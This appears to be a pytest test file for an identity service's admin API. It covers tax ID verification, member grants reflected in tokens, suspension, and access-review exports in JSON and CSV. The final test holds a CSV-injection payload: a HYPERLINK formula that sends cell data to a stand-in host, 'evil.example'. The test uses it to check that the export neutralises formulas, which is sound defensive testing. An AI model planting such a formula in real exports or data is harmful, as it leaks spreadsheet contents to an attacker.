"""The admin API: TINs, sub-organizations, members and their grants, the last
administrator, suspension, access review; every change audited with before/after;
the next token reflects every change."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from identity import admin_ops
from identity.models import AuditEvent, TaxId
from tests.identity.admin_flows import (
    EVIDENCE,
    admin_token,
    bearer,
    operator_decides,
    org_id_of,
    user_id_of,
)
from tests.identity.flows import portal_tokens
from tests.identity.harness import IdentityHarness
from tests.support.digits import arabic_indic, full_width
from tests.support.oidc import jwt_claims

EVERGREEN = "Evergreen Family Clinic"


async def test_tax_ids_wait_for_verification_format_checked_and_unique(
    identity: IdentityHarness,
) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    tins = f"/api/v1/organizations/{org}/tax-ids"
    async with identity.client(headers=bearer(token)) as api:
        added = await api.post(tins, json={"tin": "33-4445555", "label": "Lab", **EVIDENCE})
        bad = await api.post(tins, json={"tin": "12-34", **EVIDENCE})
        again = await api.post(tins, json={"tin": "334445555", **EVIDENCE})
        taken = await api.post(tins, json={"tin": "555000111", **EVIDENCE})
        sam = await user_id_of(identity, "sam.biller")
        grant = await api.patch(
            f"/api/v1/organizations/{org}/members/{sam}", json={"tax_ids": ["33-4445555"]}
        )
        shown = await api.get(f"/api/v1/organizations/{org}")
        listed = await api.get(tins)
    assert added.status_code == 202 and added.json()["tin"] == "33-4445555"
    assert added.json()["status"] == "pending_verification"
    assert bad.status_code == 422 and "nine digits" in bad.json()["detail"]
    assert bad.headers["content-type"] == "application/problem+json"
    assert again.status_code == 409 and again.json()["type"].endswith("tin-exists")
    assert taken.status_code == 202 and "operators" in taken.json()["detail"]
    assert grant.status_code == 422, "a TIN waiting for verification is granted to nobody"
    assert "33-4445555" not in shown.json()["tax_ids"]
    assert shown.json()["tax_ids_pending_verification"] == ["33-4445555", "55-5000111"]
    statuses = {t["tin"]: t["status"] for t in listed.json()["tax_ids"]}
    assert statuses["33-4445555"] == statuses["55-5000111"] == "pending_verification"
    assert statuses["12-3456789"] == "active"


async def test_evidence_is_required_and_kept(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    tins = f"/api/v1/organizations/{org}/tax-ids"
    async with identity.client(headers=bearer(token)) as api:
        no_name = await api.post(tins, json={"tin": "33-4440001", "attest": True})
        no_attest = await api.post(tins, json={"tin": "33-4440001", "legal_name": "Evergreen"})
        asked = await api.post(tins, json={"tin": "33-4440001", **EVIDENCE})
    assert no_name.status_code == 422 and no_name.json()["field"] == "legal_name"
    assert no_attest.status_code == 422 and no_attest.json()["field"] == "attest"
    assert asked.status_code == 202
    async with identity.session() as session:
        row = await session.scalar(select(TaxId).where(TaxId.tin == "334440001"))
        event = await session.scalar(
            select(AuditEvent).where(
                AuditEvent.event == "tax_id.verification_requested",
                AuditEvent.target_id == "334440001",
            )
        )
    admin_id = await user_id_of(identity, "ever.admin")
    assert row is not None and row.status == "pending_verification"
    assert row.legal_name == "Evergreen Family Clinic PLLC"
    assert row.attested_by == admin_id and row.attested_at is not None
    assert row.attestation and "Evergreen Family Clinic PLLC" in row.attestation
    assert "33-4440001" in row.attestation
    assert event is not None and event.actor_id == admin_id
    assert event.details["after"]["attestation"] == row.attestation


async def test_a_full_width_look_alike_of_another_organizations_tin_is_refused(
    identity: IdentityHarness,
) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    async with identity.client(headers=bearer(token)) as api:
        for look_alike in (full_width("55-5000111"), arabic_indic("555000111")):
            response = await api.post(
                f"/api/v1/organizations/{org}/tax-ids", json={"tin": look_alike, **EVIDENCE}
            )
            assert response.status_code == 422, response.text
            assert response.json()["field"] == "tin" and "nine digits" in response.json()["detail"]
    async with identity.session() as session:
        stored = set(await session.scalars(select(TaxId.tin)))
    assert all(tin.isascii() for tin in stored), stored


async def test_changed_tins_and_roles_show_in_the_next_token_and_refresh(
    identity: IdentityHarness,
) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    sam = await user_id_of(identity, "sam.biller")
    before = await portal_tokens(identity, "sam.biller")
    async with identity.client(headers=bearer(token)) as api:
        changed = await api.patch(
            f"/api/v1/organizations/{org}/members/{sam}",
            json={"tax_ids": ["98-7654321"], "plan_roles": ["clinical"]},
        )
    assert changed.status_code == 200, changed.text
    assert changed.json() == {
        "role": "subscriber",
        "plan_roles": ["clinical"],
        "tax_ids": ["987654321"],
    }
    after = jwt_claims((await portal_tokens(identity, "sam.biller"))["access_token"])
    assert (
        after["tax_ids"] == ["987654321"]
        and "clinical" in after["roles"]
        and "billing" not in after["roles"]
    )
    async with identity.client() as client:
        refreshed = await client.post(
            "/token",
            data={"grant_type": "refresh_token", "refresh_token": before["refresh_token"]},
            auth=("cascade-portal", identity.credentials.portal_secret),
        )
    assert jwt_claims(refreshed.json()["access_token"])["tax_ids"] == ["987654321"], (
        "refreshed tokens too"
    )
    async with identity.session() as session:
        event = await session.scalar(
            select(AuditEvent).where(AuditEvent.event == "membership.changed")
        )
    assert event is not None and event.actor_id == await user_id_of(identity, "ever.admin")
    assert event.details["before"]["tax_ids"] == ["123456789"] and event.details["after"][
        "tax_ids"
    ] == ["987654321"]
    assert event.request_id


async def test_a_removed_tin_leaves_every_later_token(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    async with identity.client(headers=bearer(token)) as api:
        await api.post(
            f"/api/v1/organizations/{org}/tax-ids", json={"tin": "66-7778888", **EVIDENCE}
        )
        await operator_decides(identity, org, "667778888")
        admin_id = await user_id_of(identity, "ever.admin")
        await api.patch(
            f"/api/v1/organizations/{org}/members/{admin_id}",
            json={"tax_ids": ["123456789", "987654321", "667778888"]},
        )
        assert (
            "667778888"
            in jwt_claims((await portal_tokens(identity, "ever.admin"))["access_token"])["tax_ids"]
        )
        removed = await api.delete(f"/api/v1/organizations/{org}/tax-ids/66-7778888")
    assert removed.status_code == 204
    assert (
        "667778888"
        not in jwt_claims((await portal_tokens(identity, "ever.admin"))["access_token"])["tax_ids"]
    )


async def test_tins_outside_the_organization_cannot_be_granted(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    sam = await user_id_of(identity, "sam.biller")
    async with identity.client(headers=bearer(token)) as api:
        response = await api.patch(
            f"/api/v1/organizations/{org}/members/{sam}", json={"tax_ids": ["555000111"]}
        )
    assert response.status_code == 422 and "55-5000111" in response.json()["detail"]


async def test_the_last_administrator_stays(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    admin_id = await user_id_of(identity, "ever.admin")
    async with identity.client(headers=bearer(token)) as api:
        demote = await api.patch(
            f"/api/v1/organizations/{org}/members/{admin_id}", json={"role": "subscriber"}
        )
        remove = await api.delete(f"/api/v1/organizations/{org}/members/{admin_id}")
    assert demote.status_code == remove.status_code == 409
    assert demote.json()["type"].endswith("/last-administrator")


async def test_sub_organizations_are_managed_from_above(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    async with identity.client(headers=bearer(token)) as api:
        child = await api.post(
            f"/api/v1/organizations/{org}/sub-organizations", json={"name": "Evergreen East"}
        )
        child_id = child.json()["id"]
        tin = await api.post(
            f"/api/v1/organizations/{child_id}/tax-ids", json={"tin": "77-1112222", **EVIDENCE}
        )
        waiting = await api.get(f"/api/v1/organizations/{child_id}")
        await operator_decides(identity, child_id, "771112222")
        seen = await api.get(f"/api/v1/organizations/{child_id}")
    assert child.status_code == 201 and child.json()["parent_id"] == org
    assert tin.status_code == 202 and waiting.json()["tax_ids"] == []
    assert waiting.json()["tax_ids_pending_verification"] == ["77-1112222"]
    assert seen.json()["tax_ids"] == ["77-1112222"]


async def test_suspension_ends_sessions_and_reactivation_restores(
    identity: IdentityHarness,
) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    sam = await user_id_of(identity, "sam.biller")
    tokens = await portal_tokens(identity, "sam.biller")
    async with identity.client(headers=bearer(token)) as api:
        suspended = await api.post(f"/api/v1/organizations/{org}/members/{sam}/suspend")
        async with identity.client() as client:
            refresh = await client.post(
                "/token",
                data={"grant_type": "refresh_token", "refresh_token": tokens["refresh_token"]},
                auth=("cascade-portal", identity.credentials.portal_secret),
            )
        back = await api.post(f"/api/v1/organizations/{org}/members/{sam}/reactivate")
    assert suspended.json() == {"status": "suspended"}
    assert refresh.status_code == 400, "a suspended user's refresh tokens are revoked at once"
    assert back.json() == {"status": "active"}
    assert (await portal_tokens(identity, "sam.biller"))["access_token"]


async def test_access_review_as_json_and_csv(identity: IdentityHarness) -> None:
    token, org = await admin_token(identity, "ever.admin"), await org_id_of(identity, EVERGREEN)
    async with identity.client(headers=bearer(token)) as api:
        listed = await api.get(f"/api/v1/organizations/{org}/access-review")
        exported = await api.get(
            f"/api/v1/organizations/{org}/access-review", params={"format": "csv"}
        )
    people = {m["username"]: m for m in listed.json()["members"]}
    assert {"ever.admin", "sam.biller"} <= people.keys() and "hana.harb" not in people
    assert people["ever.admin"]["role"] == "administrator" and people["ever.admin"]["last_login"]
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["username"] for r in rows} == set(people) and rows[0]["mfa"] in ("yes", "no")


async def test_the_access_review_csv_writes_no_live_formula(identity: IdentityHarness) -> None:
    """Names are tenant text: a name beginning `=` (or +, -, @, tab, CR) stays text."""
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    org = await org_id_of(identity, EVERGREEN)
    async with identity.session() as session:
        user = await admin_ops.create_user(
            session,
            identity.settings,
            "formula.person",
            "formula@evergreen.example",
            "Formula.Passw0rd-77",
            given_name=hostile,
            family_name="",
        )
        await admin_ops.add_membership(session, user.id, org, "subscriber", [])
        await session.commit()
    token = await admin_token(identity, "ever.admin")
    async with identity.client(headers=bearer(token)) as api:
        exported = await api.get(
            f"/api/v1/organizations/{org}/access-review", params={"format": "csv"}
        )
    rows = {r["username"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    assert rows["formula.person"]["name"] == "'" + hostile
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values())
